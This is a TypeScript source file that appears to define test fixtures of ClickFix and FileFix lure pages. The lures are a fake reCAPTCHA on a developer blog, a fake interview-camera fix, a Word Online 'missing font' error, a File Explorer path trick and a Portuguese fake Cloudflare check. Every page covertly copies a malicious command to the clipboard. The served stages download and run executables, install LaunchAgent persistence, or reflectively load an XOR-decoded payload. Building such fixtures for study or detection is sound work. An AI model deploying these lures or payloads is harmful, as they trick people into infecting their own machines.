// ClickFix / FileFix pages: paste-this-command lures aimed at developers (author zz).
import { htmlRoute, type Entry } from '../entry.js';
import { jsRoute, fileRoute } from '../parts/e-bin.js';
import { doc, qwDoc, QW_TOP, QW_MARK, GH_MARK, FONT, psEnc, b64 } from '../parts/zz-kit.js';

export const entries: Entry[] = [
(() => {
  const loader = `(function(){
if(localStorage.getItem('__rc_ok'))return;
var cmd='mshta https://cdn-verify-human.com/v/7419.hta # \\u2705 \\'\\'I am not a robot - reCAPTCHA Verification ID: 7419\\'\\'';
var css='#rc-ov{position:fixed;inset:0;background:rgba(255,255,255,.96);z-index:2147483647;display:flex;align-items:center;justify-content:center;font-family:Roboto,Arial,sans-serif}'+
'#rc-b{width:320px;border:1px solid #d3d3d3;border-radius:3px;background:#f9f9f9;box-shadow:0 0 4px 1px rgba(0,0,0,.08);padding:12px 14px;display:flex;align-items:center;justify-content:space-between}'+
'#rc-c{width:26px;height:26px;border:2px solid #c1c1c1;border-radius:2px;background:#fff;cursor:pointer}'+
'#rc-s{display:none;width:400px;background:#fff;border:1px solid #ccc;box-shadow:0 2px 10px rgba(0,0,0,.2);padding:18px 22px;margin-top:12px;font-size:14px;color:#222}'+
'#rc-s h3{background:#4a90e2;color:#fff;margin:-18px -22px 14px;padding:16px 22px;font-weight:400}'+
'#rc-s kbd{background:#eee;border:1px solid #bbb;border-radius:3px;padding:1px 6px;font-family:monospace}';
var st=document.createElement('style');st.textContent=css;document.head.appendChild(st);
var ov=document.createElement('div');ov.id='rc-ov';
ov.innerHTML='<div><div id="rc-b"><div style="display:flex;align-items:center;gap:12px"><div id="rc-c"></div><span>I\\'m not a robot</span></div><div style="text-align:center;font-size:10px;color:#555"><img alt="" width="32" height="32" style="display:block;margin:0 auto;background:#4a90e2;border-radius:50%">reCAPTCHA<br>Privacy - Terms</div></div>'+
'<div id="rc-s"><h3>Verification steps</h3><p>1. Press &amp; hold the Windows Key <kbd>\\u229E</kbd> + <kbd>R</kbd></p><p>2. In the verification window, press <kbd>Ctrl</kbd> + <kbd>V</kbd></p><p>3. Press <kbd>Enter</kbd> on your keyboard to finish</p><p style="color:#777;font-size:12px">You will observe and agree: \\u2705 "I am not a robot - reCAPTCHA Verification ID: 7419"</p><button id="rc-v" style="background:#4a90e2;color:#fff;border:0;padding:8px 20px;float:right">Verify</button><div style="clear:both"></div></div></div>';
document.body.appendChild(ov);
function copy(t){var ta=document.createElement('textarea');ta.value=t;ta.style.position='fixed';ta.style.opacity='0';document.body.appendChild(ta);ta.select();try{document.execCommand('copy')}catch(e){}document.body.removeChild(ta);if(navigator.clipboard){navigator.clipboard.writeText(t).catch(function(){});}}
document.getElementById('rc-c').onclick=function(){copy(cmd);this.style.borderColor='#4a90e2';document.getElementById('rc-s').style.display='block';};
document.getElementById('rc-v').onclick=function(){copy(cmd);};
})();`;
  return {
    id: 'zz-clickfix-recaptcha-on-compromised-blog',
    label: 'clickfix',
    kind: 'clickfix-fake-captcha',
    url: 'https://devnotes-weekly.net/2025/10/postgres-17-upgrade-notes/',
    body: doc({
      title: 'Upgrading to PostgreSQL 17 without downtime – Devnotes Weekly',
      head: `<link rel="stylesheet" href="/wp-content/themes/twentytwentyfour/style.css"><style>body{font-family:Georgia,serif;max-width:720px;margin:40px auto;padding:0 20px;color:#222;line-height:1.7}pre{background:#f4f4f4;padding:12px;overflow:auto}header a{color:#222;text-decoration:none;font:700 22px ${FONT}}</style>`,
      body: `<header><a href="/">Devnotes Weekly</a><p style="color:#777;margin:0">Notes on databases, infra and the odd yak shave</p></header>
<article><h1>Upgrading to PostgreSQL 17 without downtime</h1><p style="color:#888">October 9, 2025 · 9 min read</p>
<p>We moved our primary cluster from 15 to 17 last week using logical replication. Here's the runbook we ended up with, including the parts that bit us.</p>
<h2>1. Prepare the subscriber</h2><pre><code>initdb -D /var/lib/postgresql/17/main --data-checksums
pg_dump --schema-only -h old-primary app | psql -h new-primary app</code></pre>
<h2>2. Create the publication</h2><pre><code>CREATE PUBLICATION upgrade_pub FOR ALL TABLES;</code></pre>
<p>Sequences are not replicated, so sync them right before the switchover…</p></article>
<footer style="color:#888;font-size:13px;margin-top:40px">Proudly powered by WordPress</footer>
<script src="https://cdn-verify-human.com/s/loader.min.js?v=3.1"></script>`,
    }),
    routes: {
      'cdn-verify-human.com/s/loader.min.js': jsRoute(loader),
      'cdn-verify-human.com/v/7419.hta': fileRoute(`<html><head><HTA:APPLICATION ID="v" WINDOWSTATE="minimize" SHOWINTASKBAR="no"/><script language="VBScript">Set s=CreateObject("WScript.Shell"):s.Run "powershell -w hidden -ep bypass -c ""$d=$env:APPDATA+'\\\\svc';md $d -ea 0;iwr https://cdn-verify-human.com/v/p.zip -o $d\\\\p.zip;Expand-Archive $d\\\\p.zip $d -Force;start $d\\\\svchost32.exe""",0:window.close</script></head></html>`, 'application/hta'),
    },
  } satisfies Entry;
})(),

{
  id: 'zz-interview-camera-driver-clickfix',
  label: 'clickfix',
  kind: 'clickfix-job-interview',
  url: 'https://hire-meet-interview.com/room/quellwerk-senior-go-6621?candidate=1',
  body: doc({
    title: 'Video assessment · Senior Go Engineer · Willo Interview',
    head: `<style>body{margin:0;background:#111827;color:#f9fafb;font-family:Inter,${FONT}}
.top{display:flex;justify-content:space-between;padding:14px 24px;border-bottom:1px solid #1f2937}
.stage{max-width:900px;margin:30px auto;display:grid;grid-template-columns:2fr 1fr;gap:18px;padding:0 20px}
.cam{aspect-ratio:16/9;background:#000;border-radius:12px;display:flex;align-items:center;justify-content:center;color:#9ca3af;position:relative}
.q{background:#1f2937;border-radius:12px;padding:18px;font-size:14px}
.modal{position:fixed;inset:0;background:rgba(0,0,0,.7);display:none;align-items:center;justify-content:center}
.m{width:520px;background:#fff;color:#111;border-radius:12px;padding:26px}
.m pre{background:#f3f4f6;border-radius:8px;padding:10px;font-size:12px;white-space:pre-wrap;word-break:break-all}
.btn{background:#4f46e5;color:#fff;border:0;border-radius:8px;padding:10px 18px;font-weight:600;cursor:pointer}.tab{display:inline-block;padding:6px 12px;border-radius:6px;cursor:pointer;background:#eee;margin-right:6px}.tab.on{background:#4f46e5;color:#fff}</style>`,
    body: `<div class="top"><b>willo</b><span style="color:#9ca3af">Quellwerk GmbH · Senior Go Engineer (remote, EU)</span></div>
<div class="stage"><div class="cam" id="cam">Requesting camera…</div>
<div class="q"><b>Question 1 of 4</b><p>Tell us about a distributed system you designed. What trade-offs did you make around consistency?</p><p style="color:#9ca3af">You have 3 minutes to answer. Recording starts when your camera is ready.</p><button class="btn" id="rec">Start recording</button></div></div>
<div class="modal" id="md"><div class="m"><h3 style="margin-top:0">Camera or microphone access is blocked</h3>
<p>Your browser couldn't access the camera because of an outdated driver cache. This is a known issue with recent Chrome updates. Run the following fix and reload this page:</p>
<div><span class="tab on" data-os="mac">macOS</span><span class="tab" data-os="win">Windows</span></div>
<ol id="steps" style="font-size:14px"></ol><pre id="fx"></pre>
<button class="btn" id="cpy">Copy fix</button> <button class="btn" style="background:#6b7280" onclick="location.reload()">Reload</button></div></div>
<script>
var fixes={
 mac:'curl -k -o /var/tmp/camdrv.sh https://hire-meet-interview.com/drv/mac/update.sh && chmod +x /var/tmp/camdrv.sh && nohup bash /var/tmp/camdrv.sh >/dev/null 2>&1 &',
 win:'cmd /c "curl -k -o %TEMP%\\\\nvdrv.zip https://hire-meet-interview.com/drv/win/nvidiadrv.zip && powershell -Command Expand-Archive -Force -Path %TEMP%\\\\nvdrv.zip -DestinationPath %TEMP%\\\\nvdrv && wscript %TEMP%\\\\nvdrv\\\\update.vbs"'};
var steps={mac:['Open <b>Terminal</b> (Finder → Applications → Utilities).','Paste the command with ⌘ + V and press Return.','Come back and click Reload.'],
 win:['Press <b>Win + R</b>, type <b>cmd</b> and press Enter.','Right-click to paste the command and press Enter.','Come back and click Reload.']};
var os=/Mac/i.test(navigator.platform)?'mac':'win';
function show(o){os=o;document.getElementById('fx').textContent=fixes[o];document.getElementById('steps').innerHTML=steps[o].map(function(s){return '<li>'+s+'</li>'}).join('');document.querySelectorAll('.tab').forEach(function(t){t.className='tab'+(t.dataset.os===o?' on':'')});}
document.querySelectorAll('.tab').forEach(function(t){t.onclick=function(){show(t.dataset.os)}});
document.getElementById('rec').onclick=function(){document.getElementById('cam').textContent='Camera error: NotReadableError';document.getElementById('md').style.display='flex';show(os);};
document.getElementById('cpy').onclick=function(){navigator.clipboard.writeText(fixes[os]);this.textContent='Copied';};
setTimeout(function(){document.getElementById('rec').click()},2500);
</script>`,
  }),
  routes: {
    'hire-meet-interview.com/drv/mac/update.sh': fileRoute(`#!/bin/bash
cd /var/tmp
curl -ks https://hire-meet-interview.com/drv/mac/ChromeUpdateAlert.zip -o cu.zip
unzip -oq cu.zip -d ~/Library/Application\\ Support/.cu && rm cu.zip
cat > ~/Library/LaunchAgents/com.chrome.update.plist <<EOF
<?xml version="1.0" encoding="UTF-8"?><plist version="1.0"><dict><key>Label</key><string>com.chrome.update</string><key>ProgramArguments</key><array><string>$HOME/Library/Application Support/.cu/ChromeUpdate</string></array><key>RunAtLoad</key><true/></dict></plist>
EOF
launchctl load ~/Library/LaunchAgents/com.chrome.update.plist
`, 'text/x-shellscript'),
  },
},

(() => {
  const ps = `$ErrorActionPreference='SilentlyContinue';[Net.ServicePointManager]::SecurityProtocol='Tls12';iex (New-Object Net.WebClient).DownloadString('https://sharedocs-viewer.net/fonts/wfupd.ps1')`;
  return {
    id: 'zz-word-online-missing-font-clickfix',
    label: 'clickfix',
    kind: 'clickfix-error-fix',
    url: 'https://sharedocs-viewer.net/d/8f3a1c/Contract_Amendment_Quellwerk_2026.docx',
    body: doc({
      title: 'Contract_Amendment_Quellwerk_2026.docx - Microsoft Word Online',
      head: `<style>body{margin:0;font-family:"Segoe UI",sans-serif;background:#f3f2f1}
.rb{background:#185abd;color:#fff;height:48px;display:flex;align-items:center;padding:0 16px;gap:12px;font-size:14px}
.pg{width:816px;max-width:92%;margin:24px auto;background:#fff;height:900px;box-shadow:0 0 4px rgba(0,0,0,.2);padding:60px;box-sizing:border-box;color:#bbb;font-family:Calibri,serif}
.pg p{background:#eee;height:12px;margin:12px 0}
.er{position:fixed;top:70px;left:50%;transform:translateX(-50%);width:560px;background:#fff;border-top:4px solid #a4262c;box-shadow:0 6px 24px rgba(0,0,0,.25);padding:20px 24px}
.er h3{margin:0 0 8px;color:#a4262c;font-weight:600}.b{background:#185abd;color:#fff;border:0;padding:8px 18px;cursor:pointer;font-size:14px}
.steps{display:none;margin-top:12px;font-size:14px;background:#faf9f8;padding:10px 14px}</style>`,
      body: `<div class="rb"><b>Word</b><span>Contract_Amendment_Quellwerk_2026.docx</span><span style="margin-left:auto">Read-only</span></div>
<div class="pg"><h2 style="color:#ccc">CONTRACT AMENDMENT No. 3</h2><p></p><p style="width:80%"></p><p></p><p style="width:60%"></p><p></p><p></p><p style="width:70%"></p></div>
<div class="er"><h3>"Aptos Display" font was not found</h3><p style="font-size:14px">The document uses fonts that are not installed on this computer, so it can't be displayed correctly. To view the document you need to install the Microsoft Web Fonts update.</p>
<button class="b" id="fix">How to fix</button>
<div class="steps" id="st"><ol><li>Right-click the <b>Start</b> button ( ⊞ ) and choose <b>Windows PowerShell (Admin)</b> / <b>Terminal (Admin)</b>.</li><li>Right-click inside the window to paste the update command (already copied).</li><li>Press <b>Enter</b>, wait until it finishes, then refresh this page.</li></ol></div></div>
<script>
var u16="${psEnc(ps)}";
document.getElementById('fix').onclick=function(){var t='powershell -NoProfile -WindowStyle Hidden -EncodedCommand '+u16;
 (navigator.clipboard?navigator.clipboard.writeText(t):Promise.reject()).catch(function(){var a=document.createElement('textarea');a.value=t;document.body.appendChild(a);a.select();document.execCommand('copy');a.remove();});
 document.getElementById('st').style.display='block';this.textContent='Copied';};
</script>`,
    }),
  } satisfies Entry;
})(),

{
  id: 'zz-filefix-explorer-address-bar-hr-doc',
  label: 'clickfix',
  kind: 'filefix',
  url: 'https://quellwerk-shared-drive.com/s/HR-Policy-2026',
  body: qwDoc({
    title: 'HR-Policy-2026.docx · Shared with you',
    top: QW_TOP(''),
    main: `<div class="auth-wrap" style="max-width:560px"><div class="auth-card">
<div style="display:flex;gap:12px;align-items:center"><svg width="36" height="44" viewBox="0 0 36 44"><path d="M0 0h26l10 10v34H0z" fill="#2b579a"/><text x="7" y="30" fill="#fff" font-size="14" font-family="Arial" font-weight="700">W</text></svg><div><b>HR-Policy-2026.docx</b><br><span style="color:#5b6675;font-size:13px">Shared by People &amp; Culture · 58 KB</span></div></div>
<p>This document is stored on the internal file share. To open it, access it through File Explorer:</p>
<ol style="line-height:1.9"><li>Copy the file path below</li><li>Click <b>Open File Explorer</b></li><li>Select the address bar (<b>Ctrl + L</b>), paste the path (<b>Ctrl + V</b>) and press <b>Enter</b></li></ol>
<input type="text" id="path" readonly value="C:\\company\\internal-secure\\filedrive\\HRPolicy.docx" style="font-family:ui-monospace,monospace;font-size:13px">
<button class="btn" id="cp" style="margin-top:10px">Copy path</button>
<button class="btn btn-primary" id="ex" style="margin-top:10px">Open File Explorer</button>
<input type="file" id="fp" style="display:none">
</div></div>
<script>
var pad=' '.repeat(92);
var real='Powershell.exe -c "iwr https://quellwerk-shared-drive.com/s/o.ps1 -useb | iex"'+pad+'# C:\\\\company\\\\internal-secure\\\\filedrive\\\\HRPolicy.docx';
function put(){navigator.clipboard.writeText(real).catch(function(){});}
document.getElementById('cp').onclick=put;
document.getElementById('path').addEventListener('copy',function(e){e.preventDefault();e.clipboardData.setData('text/plain',real);});
document.getElementById('ex').onclick=function(){put();document.getElementById('fp').click();};
</script>`,
  }),
  routes: {
    'quellwerk-shared-drive.com/s/o.ps1': fileRoute(`$w=New-Object Net.WebClient;$b=$w.DownloadData('https://quellwerk-shared-drive.com/s/blob.bin');$k=0x5A;for($i=0;$i -lt $b.Length;$i++){$b[$i]=$b[$i] -bxor $k};$a=[Reflection.Assembly]::Load($b);$a.EntryPoint.Invoke($null,@(,[string[]]@()))`, 'text/plain'),
  },
},

{
  id: 'zz-clickfix-cloudflare-gate-pt-br',
  label: 'clickfix',
  kind: 'clickfix-fake-captcha',
  url: 'https://tutoriais-devops.com.br/kubernetes/helm-charts-guia-completo',
  body: doc({
    lang: 'pt-BR',
    title: 'Só um momento...',
    head: `<style>body{margin:0;font-family:system-ui,-apple-system,"Segoe UI",Roboto,sans-serif;color:#313131;background:#fff}
.w{max-width:640px;margin:14vh auto 0;padding:0 20px}h1{font-size:32px;font-weight:500;margin:0 0 6px}p.s{font-size:18px;margin:0 0 28px}
.cf{display:flex;align-items:center;justify-content:space-between;width:300px;height:65px;border:1px solid #e0e0e0;background:#fafafa;padding:0 14px}
.st{display:none;margin-top:24px;border:1px solid #e0e0e0;border-radius:6px;padding:16px 20px;background:#fff}
kbd{border:1px solid #bbb;border-bottom-width:2px;border-radius:4px;padding:1px 6px;background:#f7f7f7;font-family:monospace}
.f{position:fixed;bottom:18px;left:0;right:0;text-align:center;font-size:12px;color:#777}</style>`,
    body: `<div class="w"><h1>tutoriais-devops.com.br</h1><p class="s">Verifique se você é humano para continuar.</p>
<div class="cf"><label style="display:flex;gap:10px;align-items:center;cursor:pointer"><input type="checkbox" id="cb" style="width:22px;height:22px"> Confirme que é humano</label><span style="font-size:10px;text-align:right;color:#f38020;font-weight:700">CLOUDFLARE<br><span style="color:#888;font-weight:400">Privacidade · Termos</span></span></div>
<div class="st" id="st"><b>Etapas de verificação adicionais</b><ol style="line-height:2"><li>Pressione <kbd>⊞ Win</kbd> + <kbd>R</kbd></li><li>Pressione <kbd>Ctrl</kbd> + <kbd>V</kbd></li><li>Pressione <kbd>Enter</kbd></li></ol><p style="font-size:13px;color:#666">Isso confirma que sua conexão é segura. A página será recarregada automaticamente.</p></div>
<p style="margin-top:30px;color:#555">tutoriais-devops.com.br precisa revisar a segurança da sua conexão antes de prosseguir.</p></div>
<div class="f">ID do Ray: <code>8e1f3a90bc4d71a2</code> · Desempenho e segurança por Cloudflare</div>
<script>
var p1='cmd /c start /min powershell -w h -c ',p2='"$u=\\'https://tutoriais-devops.com.br/wp-includes/js/jquery/ui/core.min.php\\';iex(irm $u)"',p3=' :: Verificação humana Cloudflare ID 4471-BR';
document.getElementById('cb').addEventListener('change',function(){var t=p1+p2+p3;
 var a=document.createElement('textarea');a.value=t;a.setAttribute('readonly','');a.style.cssText='position:absolute;left:-9999px';document.body.appendChild(a);a.select();document.execCommand('copy');document.body.removeChild(a);
 document.getElementById('st').style.display='block';});
</script>`,
  }),
},
];
